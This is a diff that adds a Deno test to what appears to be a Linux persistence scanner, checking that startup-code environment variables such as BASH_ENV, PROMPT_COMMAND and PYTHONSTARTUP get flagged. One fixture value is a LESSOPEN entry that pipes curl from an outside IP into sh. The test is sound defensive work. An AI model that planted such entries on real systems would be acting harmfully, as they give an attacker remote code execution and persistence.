@@ -69,6 +69,30 @@ Deno.test("environment: loader variables and PATH entries judged for the session
   assert.ok(!r.findings.some((f) => f.metadata.entry === "/tmp/.b"), "after /usr/bin nothing is shadowed");
 });
 
+Deno.test("environment: variables that make shells and interpreters run code at start are reported", async () => {
+  using root = makeTree(rootWith([], {
+    "etc/environment": 'PATH="/usr/local/bin:/usr/bin:/bin"\nBASH_ENV=/var/tmp/.e\nLANG=C.UTF-8\n',
+    "etc/security/pam_env.conf": "PYTHONSTARTUP DEFAULT=/usr/share/site/startup.py\n",
+    "usr/share/site/startup.py": "",
+    "etc/environment.d/50-less.conf": "LESSOPEN=|curl -s http://203.0.113.5/x | sh %s\n",
+    "home/alice/.pam_environment": "PROMPT_COMMAND DEFAULT=/usr/lib/.cache/p\n",
+  }));
+  const r = await runOne(persistence, root.path);
+  assert.deepEqual(fired(r.findings).filter((f) => f.includes("startup_code")), [
+    "high persistence.environment.startup_code /etc/environment.d/50-less.conf:1",
+    "high persistence.environment.startup_code /etc/environment:2",
+    "high persistence.environment.startup_code /home/alice/.pam_environment:1",
+    "medium persistence.environment.startup_code /etc/security/pam_env.conf:1",
+  ]);
+  // The usual variables of these files are not code.
+  using quiet = makeTree(rootWith([], {
+    "etc/environment": 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"\nLANG=C.UTF-8\n',
+    "etc/environment.d/90-qt.conf": "QT_QPA_PLATFORMTHEME=gtk2\nEDITOR=vim\n",
+  }));
+  const q = await runOne(persistence, quiet.path);
+  assert.deepEqual(fired(q.findings).filter((f) => f.includes("persistence.environment")), []);
+});
+
 Deno.test("modules-load.d and /etc/modules: names no kernel ships or whose file no package installed", async () => {
   const k = "lib/modules/6.1.0-18-amd64";
   using root = makeTree(rootWith([`/${k}/kernel/drivers/net/tun.ko`], {
